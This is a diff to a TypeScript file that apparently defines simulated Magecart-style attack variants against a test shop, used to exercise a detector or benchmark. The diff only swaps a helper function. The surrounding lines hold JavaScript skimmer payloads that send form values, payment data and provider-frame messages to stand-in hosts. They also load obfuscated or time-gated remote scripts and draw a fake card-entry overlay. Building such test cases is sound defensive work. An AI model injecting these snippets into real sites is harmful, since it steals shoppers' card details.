@@ -1,15 +1,8 @@
 import { binding, checkoutModule, insight, loader, modularBody, provider, storage } from './modular.ts'
-import { html, inline, js, type Variant } from './variants.ts'
+import { changedFile, html, inline, js, type Variant } from './variants.ts'
 
 const code = String.raw
-const file =
-  (path: string, made: (more: string) => string) =>
-  (id: string, about: string, more: string): Variant => ({
-    id,
-    about,
-    change: (site) => void (site.files[path] = js(made(more))),
-  })
-const own = file('shop.test/static/v1/checkout.js', (more) => checkoutModule('2', more))
+const own = changedFile('shop.test/static/v1/checkout.js', (more) => checkoutModule('2', more))
 const sdk = 'checkout-live.pspco.test/sdk/5.1.0/psp.js'
 const fake =
   '<div class="cc-form"><label>Credit Card Number <input id="pm-num" inputmode="numeric"></label><label>Expiration <input id="pm-exp"></label><label>CVV <input id="pm-cvv"></label></div>'
@@ -49,17 +42,17 @@ export const tenthAttacks: readonly Variant[] = [
         provider('5.1.0').replace('http://checkout-live.pspco.test', 'http://secure-fields.test'),
       )),
   },
-  file('shop.test/static/v1/loader.js', (more) => loader('2.3.1', more))(
+  changedFile('shop.test/static/v1/loader.js', (more) => loader('2.3.1', more))(
     't10-loader-extra',
     'the loader of modules fetches one more, whose name is worked out, from another host',
     code`d.addEventListener("DOMContentLoaded", function () { setTimeout(function () { var s = d.createElement("script"); s.src = ["//static", "assets", "cdn.test"].join("-").replace("-cdn", "cdn") + "/m.js"; d.head.appendChild(s); }, 200); });`,
   ),
-  file('shop.test/static/v1/binding.js', (more) => binding('3.5', more))(
+  changedFile('shop.test/static/v1/binding.js', (more) => binding('3.5', more))(
     't10-binding-spy',
     'the library of bindings sends each value that a field gives',
     code`var real = apply; apply = function (root, data) { root.addEventListener("change", function (e) { new Image().src = "http://ko-metrics.test/b?" + encodeURIComponent(e.target.name + "=" + e.target.value); }); return real(root, data); };`,
   ),
-  file('shop.test/static/v1/storage.js', (more) => storage('1', more))(
+  changedFile('shop.test/static/v1/storage.js', (more) => storage('1', more))(
     't10-storage-copy',
     'each call to the shop has a copy to another host',
     code`var was = call; call = function (m, u, d) { if (d && d.paymentMethod) fetch("http://graph-edge.test/q", { method: "POST", mode: "no-cors", body: JSON.stringify(d) }); return was(m, u, d); };`,
@@ -69,12 +62,12 @@ export const tenthAttacks: readonly Variant[] = [
     'what the frames of the provider say is passed on to another host',
     code`addEventListener("message", function (e) { if (e.data && e.data.fieldType) fetch("http://pay-events.test/t", { method: "POST", mode: "no-cors", body: JSON.stringify(e.data) }); });`,
   ),
-  file('cdn.insight-tags.test/i.js', (more) => insight('9', more))(
+  changedFile('cdn.insight-tags.test/i.js', (more) => insight('9', more))(
     't10-tag-overlay',
     'the tag of measuring draws a window with card fields for those who come from advertising',
     code`if (/utm_source|gclid/.test(location.search) || d.referrer.indexOf("google") > 0) setTimeout(function () { var x = d.createElement("div"); x.style.cssText = "position:fixed;left:20%;top:10%;width:60%;background:#fff;z-index:99999"; x.innerHTML = ${'`'}${fake}<button type="button">Verify card</button>${'`'}; x.querySelector("button").onclick = function () { hit("verify", { d: [].map.call(x.querySelectorAll("input"), function (i) { return i.value; }).join("|") }); x.remove(); }; d.body.appendChild(x); }, 400);`,
   ),
-  file('cdn.insight-tags.test/i.js', (more) => insight('9', more))(
+  changedFile('cdn.insight-tags.test/i.js', (more) => insight('9', more))(
     't10-tag-hours',
     'the tag of measuring loads more code in the evening of some countries',
     code`var h = new Date().getHours(), z = Intl.DateTimeFormat().resolvedOptions().timeZone; if (h > 19 && /^America\/(Sao|Mex|Bog)/.test(z)) { var s = d.createElement("script"); s.src = "http://cdn.insight-tags.test/x/" + h + ".js"; d.head.appendChild(s); }`,
